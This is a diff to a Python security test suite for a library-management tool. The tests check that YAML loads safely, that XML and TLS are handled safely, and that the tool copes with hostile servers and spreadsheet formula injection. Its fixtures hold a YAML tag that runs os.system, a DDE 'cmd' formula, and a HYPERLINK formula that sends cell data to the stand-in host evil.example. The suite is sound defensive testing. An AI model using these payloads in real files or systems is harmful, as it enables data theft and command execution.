@@ -12,14 +12,33 @@
 from __future__ import annotations
 
 import ast
+import csv
 import subprocess
 import sys
+import time
+import tracemalloc
 from pathlib import Path
 
+import openpyxl
+import pandas as pd
 import pytest
 
+from alma_tools.cells import is_formula_like
 from alma_tools.errors import ConfigError
-from harness import CANARY_KEY, TRACEBACK, product_env
+from harness import (
+    CANARY_KEY,
+    DATA,
+    TRACEBACK,
+    SimulatorProcess,
+    SimulatorSpec,
+    discharge_args,
+    files_containing,
+    make_items_csv,
+    product_env,
+    read_csv_text,
+    read_results,
+    run_cli,
+)
 
 SOURCE = Path(__file__).resolve().parent.parent / "addin" / "alma_tools"
 
@@ -27,12 +46,27 @@ SOURCE = Path(__file__).resolve().parent.parent / "addin" / "alma_tools"
 
 #: functions that parse XML with the standard library's or lxml's defaults (entities expanded, DTDs read)
 _XML_MODULES = ("xml.etree", "xml.dom", "xml.sax", "xml.parsers", "lxml")
-_XML_PARSERS = {"fromstring", "fromstringlist", "XML", "parse", "iterparse", "XMLParser", "parseString",
-                "make_parser", "XMLPullParser", "ParserCreate"}
+_XML_PARSERS = {
+    "fromstring",
+    "fromstringlist",
+    "XML",
+    "parse",
+    "iterparse",
+    "XMLParser",
+    "parseString",
+    "make_parser",
+    "XMLPullParser",
+    "ParserCreate",
+}
 _YAML_UNSAFE = {"load", "load_all", "unsafe_load", "unsafe_load_all", "full_load", "full_load_all"}
 _SAFE_LOADERS = {"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"}
-_TLS_OFF_TEXT = ("CERT_NONE", "_create_unverified_context", "disable_warnings", "PYTHONHTTPSVERIFY",
-                 "CURL_CA_BUNDLE")
+_TLS_OFF_TEXT = (
+    "CERT_NONE",
+    "_create_unverified_context",
+    "disable_warnings",
+    "PYTHONHTTPSVERIFY",
+    "CURL_CA_BUNDLE",
+)
 
 
 def _aliases(tree: ast.Module) -> dict[str, str]:
@@ -90,8 +124,12 @@ def unsafe_patterns(source: str, filename: str = "<source>") -> list[str]:
             if loader_name.rpartition(".")[2] not in _SAFE_LOADERS:
                 found.append(f"{where}: {name} without a safe loader (use yaml.safe_load)")
     for node in ast.walk(tree):
-        if isinstance(node, ast.keyword) and node.arg == "verify" and isinstance(node.value, ast.Constant) \
-                and node.value.value is False:
+        if (
+            isinstance(node, ast.keyword)
+            and node.arg == "verify"
+            and isinstance(node.value, ast.Constant)
+            and node.value.value is False
+        ):
             found.append(f"{filename}:{node.value.lineno}: verify=False")
         is_false = isinstance(getattr(node, "value", None), ast.Constant) and node.value.value is False
         if isinstance(node, ast.Assign) and is_false:
@@ -111,44 +149,56 @@ def _product_sources() -> list[Path]:
 
 def test_source_tree_has_no_unsafe_parsing_or_tls_switches() -> None:
     """No verify=False, no unsafe yaml.load, no standard-library XML parsing in the product's code."""
-    found = [hit for path in _product_sources()
-             for hit in unsafe_patterns(path.read_text(encoding="utf-8"), str(path.relative_to(SOURCE)))]
+    found = [
+        hit
+        for path in _product_sources()
+        for hit in unsafe_patterns(path.read_text(encoding="utf-8"), str(path.relative_to(SOURCE)))
+    ]
     assert not found, "\n".join(found)
 
 
 def test_product_uses_the_safe_parsers() -> None:
     """The product does read YAML with safe_load and XML with defusedxml (so the check above is not empty)."""
-    names = {name for path in _product_sources()
-             for _, name in _qualified_calls(ast.parse(path.read_text(encoding="utf-8")))}
+    names = {
+        name
+        for path in _product_sources()
+        for _, name in _qualified_calls(ast.parse(path.read_text(encoding="utf-8")))
+    }
     assert "yaml.safe_load" in names
     assert any(name.startswith("defusedxml.") for name in names), sorted(n for n in names if "xml" in n)
 
 
-@pytest.mark.parametrize(("snippet", "expected"), [
-    ("import xml.etree.ElementTree as ET\nET.fromstring(b)", "xml.etree.ElementTree.fromstring"),
-    ("from xml.etree import ElementTree\nElementTree.parse(f)", "xml.etree.ElementTree.parse"),
-    ("from lxml import etree\netree.fromstring(b)", "lxml.etree.fromstring"),
-    ("from xml.dom.minidom import parseString\nparseString(b)", "xml.dom.minidom.parseString"),
-    ("import yaml\nyaml.load(t)", "yaml.load without a safe loader"),
-    ("import yaml\nyaml.load(t, Loader=yaml.FullLoader)", "yaml.load without a safe loader"),
-    ("import yaml as y\ny.unsafe_load(t)", "yaml.unsafe_load"),
-    ("import requests\nrequests.get(u, verify=False)", "verify=False"),
-    ("s = requests.Session()\ns.verify = False", "verify = False"),
-    ("import ssl\nctx = ssl._create_unverified_context()", "_create_unverified_context"),
-])
+@pytest.mark.parametrize(
+    ("snippet", "expected"),
+    [
+        ("import xml.etree.ElementTree as ET\nET.fromstring(b)", "xml.etree.ElementTree.fromstring"),
+        ("from xml.etree import ElementTree\nElementTree.parse(f)", "xml.etree.ElementTree.parse"),
+        ("from lxml import etree\netree.fromstring(b)", "lxml.etree.fromstring"),
+        ("from xml.dom.minidom import parseString\nparseString(b)", "xml.dom.minidom.parseString"),
+        ("import yaml\nyaml.load(t)", "yaml.load without a safe loader"),
+        ("import yaml\nyaml.load(t, Loader=yaml.FullLoader)", "yaml.load without a safe loader"),
+        ("import yaml as y\ny.unsafe_load(t)", "yaml.unsafe_load"),
+        ("import requests\nrequests.get(u, verify=False)", "verify=False"),
+        ("s = requests.Session()\ns.verify = False", "verify = False"),
+        ("import ssl\nctx = ssl._create_unverified_context()", "_create_unverified_context"),
+    ],
+)
 def test_the_static_check_finds_unsafe_code(snippet: str, expected: str) -> None:
     """The checker really flags each unsafe form (a check that cannot fail proves nothing)."""
     found = unsafe_patterns(snippet)
     assert any(expected in hit for hit in found), found
 
 
-@pytest.mark.parametrize("snippet", [
-    "import yaml\nyaml.safe_load(t)",
-    "import yaml\nyaml.load(t, Loader=yaml.SafeLoader)",
-    "import defusedxml.ElementTree as ET\nET.fromstring(b)",
-    "import xml.etree.ElementTree as ET\nET.Element('x')",
-    "import requests\nrequests.get(u, verify=True)",
-])
+@pytest.mark.parametrize(
+    "snippet",
+    [
+        "import yaml\nyaml.safe_load(t)",
+        "import yaml\nyaml.load(t, Loader=yaml.SafeLoader)",
+        "import defusedxml.ElementTree as ET\nET.fromstring(b)",
+        "import xml.etree.ElementTree as ET\nET.Element('x')",
+        "import requests\nrequests.get(u, verify=True)",
+    ],
+)
 def test_the_static_check_accepts_safe_code(snippet: str) -> None:
     assert unsafe_patterns(snippet) == []
 
@@ -163,11 +213,19 @@ def test_config_yaml_cannot_run_code(tmp_path: Path) -> None:
     config = home / ".config" / "alma-tools" / "config.yaml"
     config.parent.mkdir(parents=True)
     config.write_text(f'api_key: !!python/object/apply:os.system ["touch {marker}"]\n', encoding="utf-8")
-    probe = ("from alma_tools.alma.keys import resolve_api_key\n"
-             "from alma_tools.errors import ConfigError\n"
-             "try:\n    resolve_api_key()\nexcept ConfigError as error:\n    print('refused:', error)\n")
-    done = subprocess.run([sys.executable, "-c", probe], env=product_env(home, api_key=None),
-                          capture_output=True, text=True, timeout=60, check=False)
+    probe = (
+        "from alma_tools.alma.keys import resolve_api_key\n"
+        "from alma_tools.errors import ConfigError\n"
+        "try:\n    resolve_api_key()\nexcept ConfigError as error:\n    print('refused:', error)\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", probe],
+        env=product_env(home, api_key=None),
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
     assert not marker.exists(), "the YAML tag ran a command"
     assert done.returncode == 0 and TRACEBACK not in done.stderr, done.stderr
     assert "refused:" in done.stdout and "config.yaml" in done.stdout, done.stdout
@@ -179,11 +237,19 @@ def test_config_key_with_canary_is_not_echoed(tmp_path: Path) -> None:
     config = home / ".config" / "alma-tools" / "config.yaml"
     config.parent.mkdir(parents=True)
     config.write_text(f"api_key: {CANARY_KEY}\n  bad: [indent\n", encoding="utf-8")
-    probe = ("from alma_tools.alma.keys import resolve_api_key\n"
-             "from alma_tools.errors import ConfigError\n"
-             "try:\n    resolve_api_key()\nexcept ConfigError as error:\n    print('refused:', error)\n")
-    done = subprocess.run([sys.executable, "-c", probe], env=product_env(home, api_key=None),
-                          capture_output=True, text=True, timeout=60, check=False)
+    probe = (
+        "from alma_tools.alma.keys import resolve_api_key\n"
+        "from alma_tools.errors import ConfigError\n"
+        "try:\n    resolve_api_key()\nexcept ConfigError as error:\n    print('refused:', error)\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", probe],
+        env=product_env(home, api_key=None),
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
     assert "refused:" in done.stdout, done.stdout + done.stderr
     assert CANARY_KEY not in done.stdout + done.stderr
 
@@ -191,9 +257,17 @@ def test_config_key_with_canary_is_not_echoed(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------------------------- HTTPS
 
 
-@pytest.mark.parametrize("url", ["http://example.org", "http://api-eu.hosted.exlibrisgroup.com",
-                                 "http://localhost.example.org", "http://127.0.0.1.nip.io",
-                                 "ftp://example.org", "https://example.org/almaws/v1?apikey=x"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://example.org",
+        "http://api-eu.hosted.exlibrisgroup.com",
+        "http://localhost.example.org",
+        "http://127.0.0.1.nip.io",
+        "ftp://example.org",
+        "https://example.org/almaws/v1?apikey=x",
+    ],
+)
 def test_plain_http_to_a_remote_host_is_refused(url: str) -> None:
     from alma_tools.alma import AlmaClient
 
@@ -202,8 +276,16 @@ def test_plain_http_to_a_remote_host_is_refused(url: str) -> None:
     assert CANARY_KEY not in str(caught.value)
 
 
-@pytest.mark.parametrize("url", ["https://example.org", "https://api-eu.hosted.exlibrisgroup.com/almaws/v1",
-                                 "http://127.0.0.1:9", "http://localhost:9", "http://[::1]:9"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://example.org",
+        "https://api-eu.hosted.exlibrisgroup.com/almaws/v1",
+        "http://127.0.0.1:9",
+        "http://localhost:9",
+        "http://[::1]:9",
+    ],
+)
 def test_https_and_loopback_are_accepted_without_a_request(url: str) -> None:
     """Making a client sends nothing (this machine has no route to example.org: a request would fail)."""
     from alma_tools.alma import AlmaClient
@@ -220,3 +302,205 @@ def test_region_gateways_are_all_https() -> None:
 
     for code in REGIONS:
         assert resolve_base_url(region=code).startswith("https://")
+
+
+# --------------------------------------------------------------------------------------------- hostile Alma
+
+HOSTILE_ITEMS = 3
+
+
+def _hostile_sim(tmp_path: Path, mode: str) -> SimulatorProcess:
+    spec = SimulatorSpec(
+        items=make_items_csv(tmp_path / "sim" / "items.csv", HOSTILE_ITEMS),
+        locations=DATA / "locations.csv",
+        latency="0.0-0.0",
+        hostile=mode,
+    )
+    return SimulatorProcess(spec, tmp_path / "sim")
+
+
+@pytest.mark.parametrize("mode", ["huge", "xmlbomb", "drip"])
+def test_hostile_answer_ends_in_an_alma_error_within_bounds(tmp_path: Path, mode: str) -> None:
+    """Huge bodies, XML bombs and one-byte-a-second answers end in an AlmaError in bounded time and memory."""
+    from alma_tools.alma import AlmaClient, AlmaError, RetryPolicy
+
+    first = read_csv_text(DATA / "items_to_discharge.csv").iloc[0]
+    with _hostile_sim(tmp_path, mode) as sim:
+        client = AlmaClient(
+            base_url=sim.base_url,
+            api_key=CANARY_KEY,
+            timeout=(2, 2),
+            deadline=4,
+            retry=RetryPolicy(server_attempts=1, connect_attempts=1, jitter=0),
+        )
+        tracemalloc.start()
+        started = time.monotonic()
+        try:
+            with pytest.raises(AlmaError) as caught:
+                client.get_item(first["MMS Id"], first["Holding Id"], first["Item Id"])
+            elapsed = time.monotonic() - started
+            _, peak = tracemalloc.get_traced_memory()
+        finally:
+            tracemalloc.stop()
+            client.close()
+    assert elapsed < 10, f"{mode}: the client took {elapsed:.1f} s to give up (deadline 4 s)"
+    assert peak < 64 * 2**20, f"{mode}: the client held {peak / 2**20:.0f} MiB while reading the answer"
+    assert CANARY_KEY not in str(caught.value) and CANARY_KEY not in repr(caught.value)
+
+
+@pytest.mark.parametrize(
+    "mode",
+    [
+        "huge",
+        "xmlbomb",
+        pytest.param("drip", marks=pytest.mark.slow),
+    ],
+)
+def test_hostile_alma_run_ends_with_a_message(tmp_path: Path, mode: str) -> None:
+    """The discharge command facing a hostile server ends (exit 1) with a message and no traceback."""
+    work = tmp_path / "work"
+    items = make_items_csv(work / "items.csv", HOSTILE_ITEMS)
+    with _hostile_sim(tmp_path, mode) as sim:
+        run = run_cli(
+            discharge_args(items, DATA / "locations.csv", sim.base_url),
+            env=product_env(work / "home"),
+            log_dir=work / "logs",
+            timeout=150,
+        )
+    run.check_clean()
+    assert run.returncode == 1, run.describe()
+    results = read_results(items)
+    assert (results["status"].str.strip() != "").all(), results
+    assert files_containing(work) == []
+
+
+# --------------------------------------------------------------------------------------------- formulas
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def _as_text(written: object, original: str) -> bool:
+    """A payload survived as text: unchanged in a typed text cell, or with Excel's text prefix ``'``.
+
+    A writer may also trim the leading tab or CR (the statistics do, to group titles); what is left must then
+    still be text, not a formula.
+    """
+    return written in (original, "'" + original, original.strip(), "'" + original.strip())
+
+
+def _items_with_payloads(path: Path, *, fmt: str) -> pd.DataFrame:
+    """Sample items whose titles (and one location code) are formula payloads."""
+    frame = read_csv_text(DATA / "items_to_discharge.csv").head(len(PAYLOADS))
+    frame["Title"] = PAYLOADS
+    frame.loc[frame.index[-1], "Location Code"] = "@cmd"  # no desk for it: the status names the code
+    frame.loc[frame.index[-1], "Temporary Location Code"] = ""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if fmt == "csv":
+        frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL, encoding="utf-8-sig")
+    else:
+        book = openpyxl.Workbook()
+        sheet = book.active
+        sheet.append(list(frame.columns))
+        for values in frame.itertuples(index=False):
+            sheet.append([None] * len(values))
+            for column, value in enumerate(values, 1):
+                if value != "":
+                    cell = sheet.cell(sheet.max_row, column)
+                    cell.value = value
+                    cell.data_type = "s"  # a text cell, as Analytics writes it
+        book.save(path)
+    return frame
+
+
+def _no_formula_cells(path: Path) -> list[str]:
+    book = openpyxl.load_workbook(path)
+    return [
+        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_discharge_results_never_hold_a_formula(tmp_path: Path, fmt: str) -> None:
+    """Titles from input and Alma that look like formulas come back as text in the results file."""
+    work = tmp_path / "work"
+    items = work / f"items.{fmt}"
+    original = _items_with_payloads(items, fmt=fmt)
+    sim_items = tmp_path / "sim" / "items.csv"
+    _items_with_payloads(sim_items, fmt="csv")
+    sim_frame = read_csv_text(sim_items)
+    sim_frame.loc[sim_frame.index[-1], "Location Code"] = original.iloc[0]["Location Code"]
+    sim_frame.to_csv(sim_items, index=False, quoting=csv.QUOTE_ALL, encoding="utf-8-sig")
+    spec = SimulatorSpec(items=sim_items, locations=DATA / "locations.csv", latency="0.0-0.01")
+    with SimulatorProcess(spec, tmp_path / "sim") as sim:
+        run = run_cli(
+            discharge_args(items, DATA / "locations.csv", sim.base_url),
+            env=product_env(work / "home"),
+            log_dir=work / "logs",
+            timeout=120,
+        )
+    run.check_clean()
+    assert run.returncode == 1, run.describe()  # the row with location "@cmd" has no desk
+    results = read_results(items)
+    if fmt == "xlsx":
+        assert _no_formula_cells(items) == []
+    titles = list(results["Title"])
+    assert all(_as_text(t, p) for t, p in zip(titles, PAYLOADS, strict=True)), titles
+    statuses = list(results["status"])
+    assert not [s for s in statuses if is_formula_like(s)], statuses
+    assert "@cmd" in statuses[-1], statuses[-1]
+    assert all(results["done"].iloc[:-1].map(lambda v: v is True or str(v).upper() == "TRUE")), results
+
+
+def test_statistics_never_hold_a_formula(tmp_path: Path) -> None:
+    """Titles and call numbers that look like formulas stay text in the statistics XLSX and CSV."""
+    from alma_tools.concurrency import compute, read_loans, write_csv, write_xlsx
+
+    book = openpyxl.load_workbook(DATA / "loans_export.xlsx")
+    sheet = book.active
+    header = [cell.value for cell in sheet[3]]
+    title_col, mms_col = header.index("Title") + 1, header.index("MMS Id") + 1
+    call_col = header.index("Permanent Call Number") + 1
+    payload_of: dict[str, str] = {}
+    for row in range(4, sheet.max_row + 1):
+        mms = sheet.cell(row, mms_col).value
+        if not mms or not str(mms).isdigit():
+            continue
+        if mms not in payload_of and len(payload_of) < len(PAYLOADS):
+            payload_of[mms] = PAYLOADS[len(payload_of)]
+        if mms in payload_of:
+            for column, value in ((title_col, payload_of[mms]), (call_col, "-" + payload_of[mms][1:])):
+                cell = sheet.cell(row, column)
+                cell.value = value
+                cell.data_type = "s"
+    sheet.delete_rows(600, sheet.max_row)  # the first volumes are enough; keeps the test fast
+    loans_path = tmp_path / "loans.xlsx"
+    book.save(loans_path)
+
+    stats = compute(read_loans(loans_path))
+    write_xlsx(stats, tmp_path / "stats.xlsx")
+    write_csv(stats, tmp_path / "stats.csv")
+    assert _no_formula_cells(tmp_path / "stats.xlsx") == []
+    values = [
+        cell.value
+        for sheet in openpyxl.load_workbook(tmp_path / "stats.xlsx").worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    ]
+    for payload in PAYLOADS:
+        assert any(_as_text(value, payload) for value in values), f"{payload!r} missing from the report"
+    with (tmp_path / "stats.csv").open(encoding="utf-8-sig", newline="") as handle:
+        texts = [cell for row in csv.reader(handle) for cell in row]
+    assert not [text for text in texts if is_formula_like(text)], "formula-like text in the statistics CSV"
